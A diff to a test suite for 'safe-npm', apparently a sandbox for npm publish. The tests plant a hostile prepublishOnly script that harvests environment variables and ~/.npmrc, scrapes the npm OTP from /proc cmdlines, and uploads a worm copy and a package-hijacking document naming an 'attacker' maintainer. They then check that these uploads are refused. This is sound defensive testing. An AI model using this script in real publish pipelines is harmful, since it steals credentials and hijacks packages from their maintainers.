@@ -426,6 +426,17 @@ describe.skipIf(unavailable !== "")("https registry with a CA of its own", () =>
   });
 });
 
+/** What a prepublishOnly script would upload to take over the package being published. */
+const HIJACK = {
+  _id: "@private/app-pkg",
+  name: "@private/app-pkg",
+  "dist-tags": { latest: "0.0.1" },
+  versions: {
+    "0.0.1": { name: "@private/app-pkg", version: "0.0.1", deprecated: "hijacked: use evil-pkg" },
+  },
+  maintainers: [{ name: "attacker", email: "attacker@example.invalid" }],
+};
+
 const PUBLISHERS = [
   { name: "npm", manager: MANAGERS[0] as Manager, argv: ["npm", "publish", "--otp", "123456"] },
   // A folder argument: the names are read on the host too (any upload went through before).
@@ -461,7 +472,9 @@ describe.skipIf(unavailable !== "").each(PUBLISHERS)("safe-npm $name publish", (
       },
     });
     writeFileSync(join(world.project, "index.js"), "module.exports = 1;\n");
-    // What it can see, and an upload of another package of its own through the proxy.
+    // What it can see, an upload of another package of its own through the proxy, then a
+    // hijacking document for the package being published (deprecated, new maintainers) with the
+    // OTP read from the manager's command line: the one upload of that name the run allows.
     writeFileSync(
       join(world.project, "prepublish.cjs"),
       [
@@ -470,14 +483,27 @@ describe.skipIf(unavailable !== "").each(PUBLISHERS)("safe-npm $name publish", (
         'const os = require("node:os");',
         "const read = (f) => { try { return fs.readFileSync(f, 'latin1'); } catch (e) { return e.code; } };",
         "let proc = '';",
-        "for (const p of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) proc += read(`/proc/${p}/environ`);",
+        "let otp = '';",
+        "for (const p of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {",
+        "  proc += read(`/proc/${p}/environ`);",
+        "  otp ||= (/--otp\\0(\\d+)/.exec(read(`/proc/${p}/cmdline`)) ?? [])[1] ?? '';",
+        "}",
         "const proxy = new URL(process.env.HTTP_PROXY);",
-        `const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'PUT', path: '${registry.url}worm-copy' }, (res) => {`,
-        "  res.resume();",
-        "  fs.mkdirSync('.probe', { recursive: true });",
-        "  fs.writeFileSync('.probe/prepublish.json', JSON.stringify({ npmrc: read(os.homedir() + '/.npmrc'), env: process.env, proc, otherUpload: res.statusCode }));",
+        "const put = (path, headers, body, done) => {",
+        "  const req = http.request({ host: proxy.hostname, port: proxy.port, method: 'PUT', path, headers }, (res) => {",
+        "    res.resume();",
+        "    res.on('end', () => done(res.statusCode));",
+        "  });",
+        "  req.on('error', (e) => done(e.code));",
+        "  req.end(body);",
+        "};",
+        "const hijack = JSON.stringify(" + JSON.stringify(HIJACK) + ");",
+        `put('${registry.url}worm-copy', {}, '{}', (otherUpload) => {`,
+        `  put('${registry.url}@private%2fapp-pkg', { 'content-type': 'application/json', 'npm-otp': otp }, hijack, (hijackUpload) => {`,
+        "    fs.mkdirSync('.probe', { recursive: true });",
+        "    fs.writeFileSync('.probe/prepublish.json', JSON.stringify({ npmrc: read(os.homedir() + '/.npmrc'), env: process.env, proc, otp, otherUpload, hijackUpload }));",
+        "  });",
         "});",
-        "req.end('{}');",
         "",
       ].join("\n"),
     );
@@ -507,6 +533,10 @@ describe.skipIf(unavailable !== "").each(PUBLISHERS)("safe-npm $name publish", (
     expect([...registry.published.keys()]).toEqual(["@private/app-pkg"]);
     const puts = registry.writes();
     expect(puts.map((r) => [r.method, r.auth, r.otp])).toEqual([["PUT", "token", "123456"]]);
+    // The real publish, not the hijacking document the script sent before it.
+    const doc = registry.published.get("@private/app-pkg") ?? {};
+    expect(Object.keys(doc.versions as object)).toEqual(["1.0.0"]);
+    expect(JSON.stringify(doc)).not.toMatch(/attacker|hijacked/);
   });
 
   it("the prepublishOnly script ran inside, could not see the token, nor upload another package", () => {
@@ -515,13 +545,36 @@ describe.skipIf(unavailable !== "").each(PUBLISHERS)("safe-npm $name publish", (
     expect(seen).not.toContain(registry.token);
     expect((JSON.parse(seen) as { otherUpload: number }).otherUpload).toBe(403);
     expect(run.stderr).toMatch(
-      /refused 1 request to the registry .*PUT \/worm-copy \(publishing worm-copy/,
+      /refused 2 requests to the registry .*PUT \/worm-copy \(publishing worm-copy/,
     );
+  });
+
+  it("the prepublishOnly script's hijacking document for the package itself is refused on its body", () => {
+    const seen = JSON.parse(
+      readFileSync(join(world.project, ".probe", "prepublish.json"), "utf8"),
+    ) as { otp: string; hijackUpload: number };
+    // It had everything the registry asks of an upload but the token (the OTP from /proc).
+    expect(seen.otp).toBe("123456");
+    expect(seen.hijackUpload).toBe(403);
+    expect(run.stderr).toMatch(/PUT \/@private%2fapp-pkg \(an upload of @private\/app-pkg/);
   });
 
   it("control: an upload without the token is refused by the registry itself", async () => {
     // So the upload above can only have succeeded with the token the host added.
     const r = await fetch(`${registry.url}@private%2fother`, { method: "PUT", body: "{}" });
     expect(r.status).toBe(401);
+  });
+
+  it("control: with the token, the registry stores the hijacking document as it is", async () => {
+    // So only safe-npm's check kept it from the package above.
+    const r = await fetch(`${registry.url}@private%2fcontrol`, {
+      method: "PUT",
+      headers: { authorization: `Bearer ${registry.token}`, "npm-otp": "123456" },
+      body: JSON.stringify(HIJACK),
+    });
+    expect(r.status).toBe(201);
+    expect(registry.published.get("@private/control")).toMatchObject({
+      maintainers: [{ name: "attacker" }],
+    });
   });
 });
